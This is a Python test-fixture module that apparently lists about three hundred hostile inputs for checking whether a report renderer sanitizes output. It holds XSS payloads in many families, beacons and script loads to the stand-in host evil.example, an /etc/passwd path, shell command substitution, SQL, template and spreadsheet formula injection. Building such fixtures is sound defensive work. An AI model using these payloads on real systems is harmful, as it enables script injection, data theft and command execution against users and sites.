"""Three hundred texts that want to run, load, link or deceive in a report; written for this project.

RUN leaves a mark and opens a dialog, LOAD names a host that leads to the tests' canary.
"""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"
LOAD = "http://evil.example/p"
SAFE = "https://evil.example/p"

_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script/x>{RUN}</script>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script>{RUN}//",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={LOAD}></script>",
    "<script src=//evil.example/p></script>",
    f"<script async defer src='{SAFE}'></script>",
    f"<script type=module>import '{LOAD}'</script>",
    f"<script>import('{LOAD}')</script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script>fetch('{LOAD}')</script>",
    f"<script>new Image().src='{LOAD}'</script>",
    f"<script>navigator.sendBeacon('{LOAD}')</script>",
    "<script>new WebSocket('ws://evil.example/p')</script>",
    f"<script>open('{LOAD}')</script>",
    f"<script>location='{LOAD}'</script>",
    f"<script>setTimeout('{RUN}',1)</script>",
    f"<script>eval('{RUN}')</script>",
    f"<script>new Worker('{LOAD}')</script>",
    "<script>console.log('here')</script>",
    "<script>throw Error('here')</script>",
    f'<script type="speculationrules">{{"prefetch":[{{"urls":["{SAFE}"]}}]}}</script>',
    f'<script type="importmap">{{"imports":{{"a":"{SAFE}"}}}}</script><script type=module>import "a"</script>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><img src={LOAD}></template></div>",
]
_ENDS = (
    '">', "'>", "</title>", "</style>", "</td></tr></table>", "</small>", "-->", "]]>", "</textarea>", "</caption>",
    "</noscript>", "</template>", "</span></p>", "*/}", "</script>",
)  # fmt: skip
_CORES = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>")
_BREAKS = [end + core for end in _ENDS for core in _CORES]
_EVENTS = [
    f"<{tag} {event}={RUN}{rest}>"
    for tag, event, rest in (
        ("img", "onerror", " src=x"), ("img", "onload", " src=data:image/gif;base64,R0lGODlhAQABAAAAACw="),
        ("body", "onload", ""), ("body", "onpageshow", ""), ("body", "onfocus", ""), ("body", "onresize", ""),
        ("svg", "onload", ""), ("input", "onfocus", " autofocus"), ("select", "onfocus", " autofocus"),
        ("textarea", "onfocus", " autofocus"), ("button", "onfocus", " autofocus"),
        ("a", "onfocus", " href=# autofocus"), ("video", "onerror", " src=x"), ("audio", "onerror", " src=x"),
        ("details", "ontoggle", " open"), ("marquee", "onstart", ""), ("iframe", "onload", ""),
        ("object", "onerror", " data=x"), ("embed", "onload", " src=x"),
        ("link", "onerror", " rel=stylesheet href=x"), ("script", "onerror", " src=x"),
        ("div", "onmouseover", " style=position:fixed;inset:0"),
        ("div", "onpointermove", " style=position:fixed;inset:0"), ("p", "onclick", " style=position:fixed;inset:0"),
        ("div", "onanimationstart", " style=animation:x"), ("div", "tabindex=0 onkeydown", ""),
        ("source", "onerror", " src=x"), ("style", "onload", ""), ("div", "contenteditable onblur", ""),
        ("dialog", "onclose", " open"),
    )
]  # fmt: skip
_VECTORS = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={LOAD} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x to=0>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='{LOAD}#x'/></svg>",
    f"<svg><image href={LOAD} /></svg>",
    f"<svg><feImage href={LOAD} /></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style>*{{background:url({LOAD})}}</style></svg>",
    f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">',
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table><td><svg><desc><table><td><img src=x onerror={RUN}>",
    f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={RUN}>">',
]
_LINKS = [
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='javascript&colon;{RUN}'>x</a>",
    f"<a href=' \x01javascript:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    f"<a href={LOAD} ping={LOAD}>x</a>",
    f"<form action=javascript:{RUN}><input type=submit autofocus></form>",
    f"<form action={LOAD}><button style=position:fixed;inset:0>x</button></form>",
    f"<button formaction=javascript:{RUN} style=position:fixed;inset:0>x</button>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    f"javascript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
]
_LOADS = [
    f"<img src={LOAD}>", f"<img src={SAFE}>", f"<img srcset='{LOAD} 1x'>", "<img src=//evil.example/p>",
    f"<picture><source srcset={LOAD}><img src=x></picture>", f"<input type=image src={LOAD}>",
    f"<iframe src={LOAD}></iframe>", f"<frameset><frame src={LOAD}></frameset>", f"<object data={LOAD}></object>",
    f"<embed src={LOAD}>", f"<video src={LOAD} autoplay></video>", f"<video poster={LOAD}></video>",
    f"<audio src={LOAD} autoplay></audio>", f"<video><source src={LOAD}></video>",
    f"<video><track default src={LOAD}></video>", f"<body background={LOAD}>",
    f"<table background={LOAD}><td>x</table>", f"<link rel=stylesheet href={LOAD}>",
    f"<link rel=prefetch href={LOAD}>", f"<link rel=preload as=script href={LOAD}>",
    f"<link rel=modulepreload href={LOAD}>", f"<link rel=preconnect href={SAFE}>",
    "<link rel=dns-prefetch href=//evil.example>", f"<link rel=prerender href={LOAD}>",
    f"<link rel=icon href={LOAD}>", f"<link rel=manifest href={LOAD}>",
    f"<link rel=alternate type=application/rss+xml href={LOAD}>", f"<base href={LOAD}/>",
    f"<base href={LOAD}/><img src=x>", f"<meta http-equiv=refresh content='0;url={LOAD}'>",
    f"<meta http-equiv=Link content='<{LOAD}>; rel=prefetch'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta http-equiv=set-cookie content=a=b>",
    f"<fencedframe src={SAFE}></fencedframe>", f"<portal src={SAFE}></portal>", f"<applet archive={LOAD}></applet>",
    f"<html manifest={LOAD}>", f"<?xml-stylesheet href={LOAD} ?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{LOAD}'>]><x>&y;</x>", f"<isindex action={LOAD}>",
]  # fmt: skip
_STYLES = [
    f"<style>@import url({LOAD});</style>",
    f"<style>@import '{LOAD}';</style>",
    f"<style>body{{background:url({LOAD})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({LOAD})}}*{{font-family:x}}</style>",
    f"<style>p::before{{content:url({LOAD})}}</style>",
    f"<style>td[class^=l]{{background:image-set('{LOAD}' 1x)}}</style>",
    f"<p style='background:url({LOAD})'>x</p>",
    f"<p style='list-style-image:url({LOAD});display:list-item'>x</p>",
    f"<p style='cursor:url({LOAD}),auto'>x</p>",
    f'<p style="width:expression({RUN})">x</p>',
    "<p style='position:fixed;inset:0;background:#fff;z-index:9'>100.00 [99.0, 100.0]</p>",
    f"}} body {{ background: url({LOAD}) }} /*",
    f"url({LOAD})",
    "<style>*{display:none}</style>",
    "<plaintext>",
]
_MARKDOWN = [
    f"[click]({LOAD})", f"[click](javascript:{RUN})", f"![image]({LOAD})", f"[![image]({LOAD})]({LOAD})", f"<{LOAD}>",
    LOAD, "www.evil.example/p", "someone@evil.example", "mailto:someone@evil.example", f"[click][1]\n\n[1]: {LOAD}",
    f"[1]: {LOAD} 'x'", f"[x]: <javascript:{RUN}>\n[x]", f"![x][y]\n[y]: {LOAD}", "# heading", "x\n===", "x\n---",
    "- item", "1. item", "> quote", "```\ncode\n```", "`` ` ``", "`code`", "| a | b |\n|---|---|\n| 1 | 2 |", "x | y",
    "x \\| y", "\\", "\\\\|", "ends in \\", "*bold* **bold** _it_ ~~gone~~", f"x`<img src=x onerror={RUN}>`x",
    f"\\`<script>{RUN}</script>\\`", f"``` html\n<script>{RUN}</script>\n```",
    f"<details open ontoggle={RUN}>x</details>", f"<!-- x --><img src={LOAD}>", "[^1]\n\n[^1]: note", "- [x] done",
    f"$\\href{{javascript:{RUN}}}{{x}}$", "$$x$$ and $`x`$", "@someone #12 GH-12 :smile:",
    f"<a@b.example> {SAFE}?a=1&b=2", "    indented", "x  \ny", "&lt;b&gt; &amp; &copy; a&#64;b.example",
    "&#104;ttp://evil.example/p", "h\\ttp://evil.example",
]  # fmt: skip
_CODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;", f"&lt script&gt {RUN}", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}", f"\\u003cscript\\u003e{RUN}", f"\\x3cscript\\x3e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"&amp;lt;script&amp;gt;{RUN}", f"&NewLine;<img src=x onerror={RUN}>",
    f"<img src=x o&#110;error={RUN}>", f"<img src=\"x\"onerror=\"{RUN}\">", f"<img/src='x'/onerror='{RUN}'>",
    f"<img src=`x`onerror={RUN}>", f"<<img src=x onerror={RUN}>>", f"<img src=x onerror={RUN}",
    f"<img src=x:x onerror={RUN}//", f"<iMg SrC=x OnErRoR={RUN}>", f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?php echo '<img src=x onerror={RUN}>' ?>",
    f"</><img src=x onerror={RUN}>", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "<a id=document><a id=body name=cookie>",
]  # fmt: skip
_UNICODE = [
    f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<img\x0csrc=x\x0conerror={RUN}>", f"<img\x0bsrc=x onerror={RUN}>",
    f"\u2028<script>{RUN}</script>\u2029", f"\u202e>tpircs/<{RUN}>tpircs<", "\u2066<b>\u2069 \u202d00.001 \u202c",
    f"\ufeff<script>{RUN}</script>", f"<\u200bscript>{RUN}</script>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{RUN}", "\u3164\u3164hidden\u115f\u1160\uffa0",
    "".join(chr(0xE0000 + ord(c)) for c in "hidden"), "Z" + "\u0301\u0336" * 40,
    "\ud83d lone \udc00 surrogates \ud800", "\ufffe\uffff", "a\u00a0\u3000b\u00ad\u2060c",
    "\x85\x1c\x1d\x1e\x1f lines", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x9b31mred\x9d0;title\x9c",
    "\x08\x08\x08100.00", "real\rfake", "ends\r\n<br>", "\u061c\u200e\u200f marks", "\u2800\u2800blank",
    "a\ufe0f\ufe0f\ufe01b", "\U0001f469\u200d\U0001f467 \u2764\ufe0f", "\u05d0\u05d1 12 [3] \u0627\u0644",
    "i\u0307\u0130\u017f\u212a<\u017fcript>", f"<img src=x onerror\u3000={RUN}>", "\U000e0001\U000e007f\U000e0100",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% import os %}", "#{7*7}", "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}", "{0.__class__.__mro__}", "%s%n%(x)s", "$(touch /tmp/x)", "`id`",
    "{{''.__class__}}", "{model} {utterance} {{{x}}}", "=HYPERLINK(\"http://evil.example\")", "@SUM(1)",
    "+1+cmd|' /C calc'!A0", "-2+3", "null: value · n 1", "x · [1.00, 2.00] · n 3", "77.50 [62.50, 87.68] · n 40",
    "'; DROP TABLE runs; --", "../../../../etc/passwd", "con.txt::$DATA", "A" * 5000, "<" * 3000,
    "very " * 400 + "long", " ", "null", "</body></html><h1>after</h1>", "<x" + " a=1" * 500 + ">",
]  # fmt: skip

FAMILIES: dict[str, list[str]] = {
    "script": _SCRIPTS,
    "break": _BREAKS,
    "event": _EVENTS,
    "vector": _VECTORS,
    "link": _LINKS,
    "load": _LOADS,
    "style": _STYLES,
    "markdown": _MARKDOWN,
    "coded": _CODED,
    "unicode": _UNICODE,
    "template": _TEMPLATES,
}
PAYLOADS: list[str] = list(dict.fromkeys(text for texts in FAMILIES.values() for text in texts))
